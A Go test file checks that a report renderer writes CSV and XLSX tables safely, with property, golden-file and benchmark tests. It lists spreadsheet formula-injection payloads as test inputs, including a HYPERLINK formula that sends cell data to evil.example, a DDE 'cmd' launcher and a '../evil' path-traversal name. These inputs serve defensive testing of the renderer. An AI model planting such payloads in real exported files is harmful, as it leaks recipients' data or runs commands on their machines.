package render_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	"tracksource/report"
	"tracksource/report/render"
)

// memory keeps the files of a package.
type memory map[string]*bytes.Buffer

type memoryFile struct{ *bytes.Buffer }

func (memoryFile) Close() error { return nil }

func (m memory) create(name string) (io.WriteCloser, error) {
	if m[name] != nil {
		return nil, fmt.Errorf("%s is made twice", name)
	}
	m[name] = new(bytes.Buffer)
	return memoryFile{m[name]}, nil
}

func rendered(t testing.TB, p *report.Package, formats ...render.Format) memory {
	t.Helper()
	files := memory{}
	if err := render.Files(p, formats, files.create); err != nil {
		t.Fatal(err)
	}
	return files
}

// hostileNames are texts that somebody may give a campaign, a partner or an asset.
var hostileNames = []string{
	"=HYPERLINK(\"https://evil.example/?\"&A1,\"prize\")", "+1+1", "-2+3+cmd|'/c calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1",
	"＝1+1", "＋1", "－1+1", "＠SUM(1)", "'=1", "''=1", "'t Hof", " =1+1", "\u200b=1+1", "a;=1+1;b", "a\t=1", "line\n=2", "a\r\n@x",
	"x,=1", "quote\"=1", "\"=1\"", "-5", "-5%", "a_x0041_b", "_x005F_", "\x00=1", "bell\a", "\xff\xfe", "</t><f>1+1</f>", "&lt;", "2026-01-02", "1e9", "0x1", "",
}

func column(id string, kind report.ColumnKind) report.Column {
	c := report.Column{ID: id, Title: strings.ToUpper(id), Kind: kind}
	if kind == report.MoneyColumn {
		c.Currency = "USD"
	}
	return c
}

// hostile is a package of few rows with values of every kind.
func hostile() *report.Package {
	p := &report.Package{
		Version: report.PackageVersion, Campaign: "launch", Name: "=Launch & <Tour>", Title: "=Launch & <Tour>", Currency: "USD", Zone: "Europe/Berlin",
		AsOf:     report.AsOf{Time: time.Date(2026, time.May, 4, 12, 30, 0, 0, time.FixedZone("CEST", 2*60*60))},
		Question: report.PackageQuestion{Window: "30d", From: "2026-04-05", To: "2026-05-04", Detail: report.Full, Dimensions: []string{"partner"}, Model: "multi", ModelName: "Multi"},
		Spine: []report.KPI{
			{ID: "rate", Title: "Rate", Value: "0.25", Kind: report.RatioColumn, Target: "0.3", Light: report.Grey},
			{ID: "pipeline", Title: "Pipeline", Value: "-12.50", Kind: report.MoneyColumn, Currency: "USD", Light: report.Red, Why: "=below"},
		},
		Actions: []report.Action{{ID: "a1", Text: "@stop", About: []report.Subject{{Dimension: "asset", Key: "=x"}}, Owner: "acme", Due: "2026-05-10", Status: "open"}},
	}
	names := report.Table{ID: "names", Title: "Names", Columns: []report.Column{column("name", report.TextColumn), column("claimed", report.MoneyColumn)}}
	for _, n := range hostileNames {
		names.Rows = append(names.Rows, []string{n, n})
	}
	kinds := report.Table{
		ID: "kinds", Title: "Kinds", Note: "=note", LeftOut: 3,
		Columns: []report.Column{
			column("text", report.TextColumn), column("money", report.MoneyColumn), column("count", report.CountColumn), column("ratio", report.RatioColumn),
			column("days", report.DaysColumn), column("day", report.DayColumn), column("time", report.TimeColumn),
		},
		Rows: [][]string{
			{"small", "-0.10", "1.50", "0.1234", "12", "2026-05-04", "2026-05-04T12:30:00+02:00"},
			{"exact", "9999999999999.99", "3", "1.0000", "0.5", "1900-03-01", "2026-05-04T12:30:00Z"},
			{"long", "12345678901234.56", "0.000000001", "0", "-1", "1900-02-28", ""},
			{"round", "1000000000000000000.00", "", "", "", "", ""},
		},
	}
	p.Tables = []report.Table{names, kinds, {ID: "history", Title: "History", Columns: []report.Column{column("a", report.TextColumn)}}}
	p.Tables = append(p.Tables, additive(50)...)
	return p
}

// additive are contributions and the totals that they sum to.
func additive(rows int) []report.Table {
	c := report.Table{ID: "contributions", Title: "Contributions", Columns: []report.Column{
		column("partner", report.TextColumn), column("channel", report.TextColumn), column("revenue", report.MoneyColumn), column("won", report.CountColumn),
	}}
	var revenue, won report.Value
	for i := range rows {
		r, w := report.ValueOf(int64(i*i*7919-40_000), 2), report.ValueOf(int64(i*33), 1)
		revenue, won = revenue.Add(r), won.Add(w)
		c.Rows = append(c.Rows, []string{fmt.Sprintf("=p%d", i%7), hostileNames[i%len(hostileNames)], r.Text(2), w.Text(1)})
	}
	return []report.Table{c, {
		ID: "totals", Title: "Totals", Columns: []report.Column{column("measure", report.TextColumn), column("total", report.MoneyColumn)},
		Rows: [][]string{{"revenue", revenue.Text(2)}, {"won", won.Text(1)}},
	}}
}

func TestCSVGolden(t *testing.T) {
	files := rendered(t, hostile(), render.CSV)
	for _, id := range []string{"names", "kinds", "history", "spine", "actions"} {
		got := files["tables/"+id+".csv"]
		if got == nil {
			t.Fatalf("there is no table %s", id)
		}
		golden := filepath.Join("testdata", id+".csv.txt")
		// Line ends and what nobody sees are told, so that the file can be reviewed.
		told := new(strings.Builder)
		for _, line := range strings.SplitAfter(got.String(), "\r\n") {
			if line != "" {
				fmt.Fprintf(told, "%q\n", line)
			}
		}
		if *update {
			if err := os.WriteFile(golden, []byte(told.String()), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		want, err := os.ReadFile(golden)
		if err != nil || told.String() != string(want) {
			t.Errorf("%s, %v: got\n%swant\n%s", golden, err, told, want)
		}
	}
}

// TestCSVRead: who reads the files has every value again, numbers as they are and texts
// without the apostrophes that keep them harmless.
func TestCSVRead(t *testing.T) {
	p := hostile()
	for id, got := range readCSV(t, rendered(t, p, render.CSV)) {
		table := p.Table(id)
		if table == nil {
			continue
		}
		if len(got) != 1+len(table.Rows) || len(got[0]) != len(table.Columns) || got[0][0] != table.Columns[0].ID {
			t.Errorf("%s: header %q", id, got[0])
		}
		for n, row := range table.Rows {
			for i, v := range row {
				// A reader of Go takes a carriage return in front of a line feed away.
				if read := render.CSVOriginal(got[n+1][i]); read != strings.ToValidUTF8(strings.ReplaceAll(v, "\r\n", "\n"), "\uFFFD") {
					t.Errorf("%s row %d: %q reads as %q", id, n, v, read)
				}
			}
		}
	}
}

func readCSV(t testing.TB, files memory) map[string][][]string {
	t.Helper()
	tables := map[string][][]string{}
	for name, content := range files {
		id, isTable := strings.CutPrefix(name, "tables/")
		if !isTable {
			continue
		}
		records, err := csv.NewReader(content).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		tables[strings.TrimSuffix(id, ".csv")] = records
	}
	return tables
}

// TestCSVSums: what is in the file of contributions sums to what is in that of totals.
func TestCSVSums(t *testing.T) {
	tables := readCSV(t, rendered(t, hostile(), render.CSV))
	for i, total := range tables["totals"][1:] {
		var sum report.Value
		for _, row := range tables["contributions"][1:] {
			v, err := report.ParseValue(row[2+i])
			if err != nil {
				t.Fatal(err)
			}
			sum = sum.Add(v)
		}
		if want, err := report.ParseValue(total[1]); err != nil || sum.Cmp(want) != 0 {
			t.Errorf("%s: sum %s, total %q, %v", total[0], sum.Text(2), total[1], err)
		}
	}
}

func TestCSVText(t *testing.T) {
	signs := []rune{'=', '+', '-', '@', '＝', '＋', '－', '＠', '\'', ';', '\t', '\n', '\r', ' ', '\u200b', 0, '1', '.', 'a', '"', ','}
	anything := rapid.OneOf(rapid.StringOf(rapid.SampledFrom(signs)), rapid.String())
	rapid.Check(t, func(t *rapid.T) {
		text := anything.Draw(t, "text")
		safe := render.CSVText(text)
		if got := render.CSVOriginal(safe); got != text {
			t.Fatalf("%q was written %q, which is %q", text, safe, got)
		}
		if safe != "" && strings.ContainsRune("\t\r\n\x00", rune(safe[0])) {
			t.Fatalf("%q was written %q", text, safe)
		}
		for _, cell := range strings.FieldsFunc(safe, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
			cell = strings.TrimLeft(cell, " \u200b")
			if _, err := report.ParseValue(cell); err != nil && strings.IndexAny(cell, "=+-@＝＋－＠") == 0 {
				t.Fatalf("%q was written %q, with the formula %q", text, safe, cell)
			}
		}
	})
}

func TestTableNames(t *testing.T) {
	for name, tables := range map[string][]report.Table{
		"path": {{ID: "../evil"}}, "upper": {{ID: "Table"}}, "empty": {{}}, "twice": {{ID: "a"}, {ID: "a"}},
	} {
		for _, f := range []render.Format{render.CSV, render.XLSX} {
			if err := render.Files(&report.Package{Tables: tables}, []render.Format{f}, memory{}.create); err == nil {
				t.Errorf("%s as %s: no error", name, f)
			}
		}
	}
}

// full is a disk without room.
type full struct{}

var errFull = errors.New("no space left")

func (full) Write([]byte) (int, error) { return 0, errFull }
func (full) Close() error              { return nil }

func TestFullDisk(t *testing.T) {
	p := &report.Package{Tables: additive(5000)}
	for _, f := range []render.Format{render.CSV, render.XLSX} {
		if err := render.Files(p, []render.Format{f}, func(string) (io.WriteCloser, error) { return full{}, nil }); !errors.Is(err, errFull) {
			t.Errorf("%s: %v", f, err)
		}
	}
}

// sheet is what the test reads of one.
type sheet struct {
	Rows []struct {
		Cells []struct {
			At     string  `xml:"r,attr"`
			Style  int     `xml:"s,attr"`
			Type   string  `xml:"t,attr"`
			Number string  `xml:"v"`
			Text   *string `xml:"is>t"`
		} `xml:"c"`
	} `xml:"sheetData>row"`
}

// readParts reads the files of a workbook, each of which is XML.
func readParts(t testing.TB, content []byte) map[string]string {
	t.Helper()
	archive, err := zip.NewReader(bytes.NewReader(content), int64(len(content)))
	if err != nil {
		t.Fatal(err)
	}
	parts := map[string]string{}
	for _, f := range archive.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		parts[f.Name] = string(text)
	}
	return parts
}

// readXLSX reads the sheets of a workbook by their names, and its files.
func readXLSX(t testing.TB, content []byte) (sheets map[string]sheet, parts map[string]string) {
	t.Helper()
	parts, sheets = readParts(t, content), map[string]sheet{}
	for name, text := range parts {
		for d := xml.NewDecoder(strings.NewReader(text)); ; {
			if _, err := d.Token(); errors.Is(err, io.EOF) {
				break
			} else if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
		}
	}
	var book struct {
		Sheets []struct {
			Name string `xml:"name,attr"`
		} `xml:"sheets>sheet"`
	}
	if err := xml.Unmarshal([]byte(parts["xl/workbook.xml"]), &book); err != nil {
		t.Fatal(err)
	}
	for i, s := range book.Sheets {
		var one sheet
		if err := xml.Unmarshal([]byte(parts[fmt.Sprintf("xl/worksheets/sheet%d.xml", i+1)]), &one); err != nil {
			t.Fatal(err)
		}
		if _, twice := sheets[s.Name]; twice || len(s.Name) > 31 {
			t.Errorf("sheet %q: there are two, or its name is too long", s.Name)
		}
		sheets[s.Name] = one
	}
	return sheets, parts
}

func TestXLSX(t *testing.T) {
	p := hostile()
	content := rendered(t, p, render.XLSX)["tables.xlsx"].Bytes()
	sheets, parts := readXLSX(t, content)
	kinds := sheets["kinds"]
	cell := func(row, column int) string {
		c := kinds.Rows[row].Cells[column]
		if c.Text != nil {
			return "text " + *c.Text
		}
		return "number " + c.Number
	}
	for _, test := range []struct {
		row, column int
		want        string
	}{
		{0, 1, "text MONEY"},
		{1, 1, "number -0.10"},
		{2, 1, "number 9999999999999.99"},
		{3, 1, "text 12345678901234.56"},
		{4, 1, "number 1000000000000000000.00"},
		{1, 3, "number 0.1234"},
		{1, 5, "number 46146"},
		{2, 5, "number 61"},
		{3, 5, "text 1900-02-28"},
		{1, 6, "text 2026-05-04T12:30:00+02:00"},
		{5, 0, "text =note"},
		{6, 0, "text 3 more rows are left out."},
		{7, 0, "text 1 numbers of more than 15 digits, and 1 days that spreadsheets cannot count, are written as text: the sheet's sums are without them."},
	} {
		if got := cell(test.row, test.column); got != test.want {
			t.Errorf("row %d, column %d: got %s, want %s", test.row, test.column, got, test.want)
		}
	}
	// Rows of the spine are of different kinds, and numbers all the same.
	spine := sheets["spine"]
	rate, amount := spine.Rows[1].Cells[2], spine.Rows[2].Cells[2]
	if rate.Number != "0.25" || amount.Number != "-12.50" || rate.Style == amount.Style || rate.Style != spine.Rows[1].Cells[4].Style {
		t.Errorf("the spine has %+v and %+v", rate, amount)
	}
	names := sheets["names"]
	for i, n := range hostileNames[:len(hostileNames)-1] {
		for _, c := range names.Rows[1+i].Cells {
			if isNumber := n == "-5" && c.Text == nil; c.Type != "inlineStr" && !isNumber {
				t.Errorf("%q is a cell of type %q", n, c.Type)
			}
		}
	}
	for name, text := range parts {
		if strings.Contains(text, "<f>") || strings.Contains(text, "<f ") {
			t.Errorf("%s has a formula", name)
		}
	}
	if !strings.Contains(parts["docProps/core.xml"], "2026-05-04T10:30:00Z") {
		t.Errorf("properties: %s", parts["docProps/core.xml"])
	}
	if _, reserved := sheets["history"]; reserved {
		t.Error("a sheet has the name that the program keeps for itself")
	}
	if again := rendered(t, p, render.XLSX)["tables.xlsx"].Bytes(); !bytes.Equal(content, again) {
		t.Error("the same package makes another workbook")
	}
	if !reflect.DeepEqual(p, hostile()) {
		t.Error("the package has been changed")
	}
}

func TestSheetNames(t *testing.T) {
	long := strings.Repeat("long_", 8)
	sheets, _ := readXLSX(t, rendered(t, &report.Package{Tables: []report.Table{{ID: long + "a"}, {ID: long + "b"}, {ID: "contents"}, {ID: "about"}}}, render.XLSX)["tables.xlsx"].Bytes())
	for _, want := range []string{"about", "contents", long[:31], long[:29] + "_2", "contents_2", "about_2"} {
		if _, ok := sheets[want]; !ok {
			t.Errorf("there is no sheet %s", want)
		}
	}
}

// TestSheetRows: a sheet is never longer than spreadsheets can open.
func TestSheetRows(t *testing.T) {
	if testing.Short() {
		t.Skip("writes more than a million rows")
	}
	table := report.Table{ID: "long", Columns: []report.Column{column("n", report.CountColumn)}, Rows: slices.Repeat([][]string{{"1"}}, 1_048_600)}
	parts := readParts(t, rendered(t, &report.Package{Tables: []report.Table{table}}, render.XLSX)["tables.xlsx"].Bytes())
	text := parts["xl/worksheets/sheet3.xml"]
	if n := strings.Count(text, "<v>"); n != 1_048_569 || !strings.Contains(text, "31 more rows are left out.") {
		t.Errorf("%d rows, and below them %s", n, text[len(text)-400:])
	}
}

// TestXLSXLongTexts: what is longer than its column goes on in lines that are all to be
// seen, and amounts of key figures have room for their currency.
func TestXLSXLongTexts(t *testing.T) {
	t.Parallel()
	p := hostile()
	p.Tables = []report.Table{{ID: "long", Title: "Long", Columns: []report.Column{column("what", report.TextColumn), column("won", report.CountColumn)}, Rows: [][]string{
		{strings.Repeat("word ", 12), "1"}, {strings.Repeat("word ", 25), "2"}, {strings.Repeat("word ", 5000), "3"},
	}}}
	p.Spine = []report.KPI{{ID: "revenue", Title: "Revenue", Value: "1234567.89", Kind: report.MoneyColumn, Currency: "USD", Light: report.Green}}
	_, parts := readXLSX(t, rendered(t, p, render.XLSX)["tables.xlsx"].Bytes())
	spine := parts["xl/worksheets/sheet3.xml"]
	var long string
	for _, part := range parts {
		if strings.Contains(part, "word word") {
			long = part
		}
	}
	for _, want := range []string{`<row r="2"><c r="A2" s="1"`, `<row r="3" ht="45" customHeight="1"><c r="A3" s="3"`, `<row r="4" ht="300" customHeight="1"><c r="A4" s="3"`} {
		if !strings.Contains(long, want) {
			t.Errorf("%s is not in %.900s", want, long)
		}
	}
	if want := `<col min="3" max="3" width="17" customWidth="1"/>`; !strings.Contains(spine, want) {
		t.Errorf("%s is not in %.900s", want, spine)
	}
	if styles := parts["xl/styles.xml"]; strings.Count(styles, "wrapText") != 1 {
		t.Errorf("not one style wraps: %s", styles)
	}
}

// wide is a package of 100,000 rows of 15 values.
func wide() *report.Package {
	t := report.Table{ID: "deals", Title: "Deals"}
	for i := range 15 {
		kind := []report.ColumnKind{report.TextColumn, report.MoneyColumn, report.CountColumn, report.DayColumn, report.RatioColumn}[i%5]
		t.Columns = append(t.Columns, column(fmt.Sprintf("c%d", i), kind))
	}
	for n := range 100_000 {
		row := make([]string, 15)
		for i := range row {
			row[i] = []string{fmt.Sprintf("account-%d", n*31%9973), report.ValueOf(int64(n)*7919, 2).Text(2), fmt.Sprint(n % 100), "2026-05-04", "0.1234"}[i%5]
		}
		t.Rows = append(t.Rows, row)
	}
	return &report.Package{Tables: []report.Table{t}}
}

type counter struct{ n int64 }

func (c *counter) Write(b []byte) (int, error) { c.n += int64(len(b)); return len(b), nil }
func (c *counter) Close() error                { return nil }

func BenchmarkTables(b *testing.B) {
	p := wide()
	for _, f := range []render.Format{render.CSV, render.XLSX} {
		b.Run(string(f), func(b *testing.B) {
			b.ReportAllocs()
			var c counter
			for b.Loop() {
				c = counter{}
				if err := render.Files(p, []render.Format{f}, func(string) (io.WriteCloser, error) { return &c, nil }); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64(c.n), "file-B")
		})
	}
}
